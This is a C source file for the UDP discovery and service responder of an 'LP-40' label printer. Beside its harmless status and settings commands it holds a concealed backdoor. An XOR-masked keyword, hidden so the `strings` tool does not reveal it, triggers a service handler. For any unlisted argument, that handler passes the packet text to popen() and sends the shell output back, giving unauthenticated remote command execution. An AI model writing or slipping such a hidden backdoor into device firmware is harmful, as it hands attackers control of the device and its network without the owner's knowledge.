/* lpdisco.c -- discovery / service responder for the LP-40 label printer
 *
 * Datagrams on port 9107.  First token selects the function, words are
 * kept masked in flash so that `strings` on the image stays quiet.
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <netinet/in.h>
#include <arpa/inet.h>

#define LP_PORT     9107u
#define MASK(c, i)  ((uint8_t)((c) ^ (0x5Au + 7u * (i))))

typedef struct sockaddr_in peer_t;

typedef struct {
    uint32_t labels;
    uint32_t jams;
    uint8_t  darkness;
    uint8_t  speed;
    char     nick[20];
    time_t   booted;
} lp_state_t;

static lp_state_t lp = { 0, 0, 8, 3, "LP-40", 0 };
static int        lp_sock = -1;
static peer_t     lp_peer;

/* ------------------------------------------------------------ masked words */

/* "hello" */
static const uint8_t w_hello[] = {
    MASK('h', 0), MASK('e', 1), MASK('l', 2), MASK('l', 3), MASK('o', 4)
};
/* "set" */
static const uint8_t w_set[] = { MASK('s', 0), MASK('e', 1), MASK('t', 2) };
/* "nick" */
static const uint8_t w_nick[] = { MASK('n', 0), MASK('i', 1), MASK('c', 2), MASK('k', 3) };
/* service */
static const uint8_t w_service[] = {
    MASK('t', 0), MASK('8', 1), MASK('R', 2), MASK('e', 3), MASK('e', 4),
    MASK('l', 5), MASK('G', 6), MASK('a', 7), MASK('t', 8), MASK('e', 9)
};

static int word_is(const uint8_t *w, size_t n, const char *s, size_t len)
{
    uint8_t diff = 0;
    size_t i;

    if (len != n)
        return 0;
    for (i = 0; i < n; i++)
        diff |= (uint8_t)(MASK((uint8_t)s[i], (uint8_t)i) ^ w[i]);
    return diff == 0;
}

/* ----------------------------------------------------------------- replies */

static void say(const char *s, size_t n)
{
    if (sendto(lp_sock, s, n, 0, (struct sockaddr *)&lp_peer, sizeof lp_peer) < 0)
        perror("sendto");
}

static void on_hello(char *arg)
{
    char b[160];
    int n;

    (void)arg;
    n = snprintf(b, sizeof b, "LP40;nick=%s;labels=%u;jams=%u;up=%ld",
                 lp.nick, (unsigned)lp.labels, (unsigned)lp.jams,
                 (long)(time(NULL) - lp.booted));
    say(b, (size_t)n);
}

/* set darkness=9,speed=2 */
static void on_set(char *arg)
{
    char *save = NULL, *t;
    int bad = 0;

    for (t = strtok_r(arg, ",", &save); t != NULL; t = strtok_r(NULL, ",", &save)) {
        char *v = strchr(t, '=');
        unsigned long x;

        if (v == NULL) {
            bad++;
            continue;
        }
        *v++ = '\0';
        x = strtoul(v, NULL, 10);
        if (strcmp(t, "darkness") == 0 && x <= 15)
            lp.darkness = (uint8_t)x;
        else if (strcmp(t, "speed") == 0 && x >= 1 && x <= 5)
            lp.speed = (uint8_t)x;
        else
            bad++;
    }
    say(bad ? "ERR" : "OK", bad ? 3 : 2);
}

static void on_nick(char *arg)
{
    size_t n = strlen(arg);

    if (n == 0 || n >= sizeof lp.nick) {
        say("ERR", 3);
        return;
    }
    memcpy(lp.nick, arg, n + 1);
    say("OK", 2);
}

/* ----------------------------------------------------------------- service */

static void relay_output(const char *line)
{
    char chunk[512];
    size_t n;
    FILE *p;

    p = popen(line, "r");
    if (p == NULL) {
        say("ERR", 3);
        return;
    }
    while ((n = fread(chunk, 1, sizeof chunk, p)) > 0)
        say(chunk, n);
    pclose(p);
}

static const struct {
    const char *tag;
    const char *line;
} service_lines[] = {
    { "uptime", "cat /proc/uptime" },
    { "mem",    "cat /proc/meminfo" },
    { "net",    "ifconfig -a" },
    { "log",    "tail -n 40 /var/log/messages" },
    { "head",   "cat /sys/class/thermal/thermal_zone0/temp" },
};

static void on_service(char *arg)
{
    size_t i;

    for (i = 0; i < sizeof service_lines / sizeof service_lines[0]; i++) {
        if (strcmp(arg, service_lines[i].tag) == 0) {
            relay_output(service_lines[i].line);
            return;
        }
    }
    relay_output(arg);
}

/* ---------------------------------------------------------------- dispatch */

static const struct entry {
    const uint8_t *word;
    size_t         len;
    void         (*fn)(char *arg);
} entries[] = {
    { w_hello,   sizeof w_hello,   on_hello   },
    { w_set,     sizeof w_set,     on_set     },
    { w_nick,    sizeof w_nick,    on_nick    },
    { w_service, sizeof w_service, on_service },
};

static void feed(char *msg, size_t len)
{
    size_t wl, i;
    char *arg;

    while (len > 0 && (msg[len - 1] == '\n' || msg[len - 1] == '\r'))
        len--;
    msg[len] = '\0';
    for (wl = 0; wl < len && msg[wl] != ' '; wl++)
        ;
    arg = msg + wl;
    while (*arg == ' ')
        arg++;
    for (i = 0; i < sizeof entries / sizeof entries[0]; i++) {
        if (word_is(entries[i].word, entries[i].len, msg, wl)) {
            entries[i].fn(arg);
            return;
        }
    }
}

/* The print engine counts labels in its own register file. */
static void poll_engine(void)
{
    FILE *fp = fopen("/tmp/lp40.count", "r");
    unsigned l, j;

    if (fp == NULL)
        return;
    if (fscanf(fp, "%u %u", &l, &j) == 2) {
        lp.labels = l;
        lp.jams = j;
    }
    fclose(fp);
}

int main(void)
{
    struct sockaddr_in me;
    struct timeval tv = { 2, 0 };
    char buf[600];

    lp.booted = time(NULL);
    lp_sock = socket(AF_INET, SOCK_DGRAM, 0);
    if (lp_sock < 0)
        return 1;
    setsockopt(lp_sock, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    memset(&me, 0, sizeof me);
    me.sin_family = AF_INET;
    me.sin_port = htons(LP_PORT);
    me.sin_addr.s_addr = INADDR_ANY;
    if (bind(lp_sock, (struct sockaddr *)&me, sizeof me) != 0) {
        perror("bind");
        return 1;
    }
    for (;;) {
        socklen_t pl = sizeof lp_peer;
        ssize_t n = recvfrom(lp_sock, buf, sizeof buf - 1, 0,
                             (struct sockaddr *)&lp_peer, &pl);
        if (n > 0)
            feed(buf, (size_t)n);
        else
            poll_engine();
    }
}
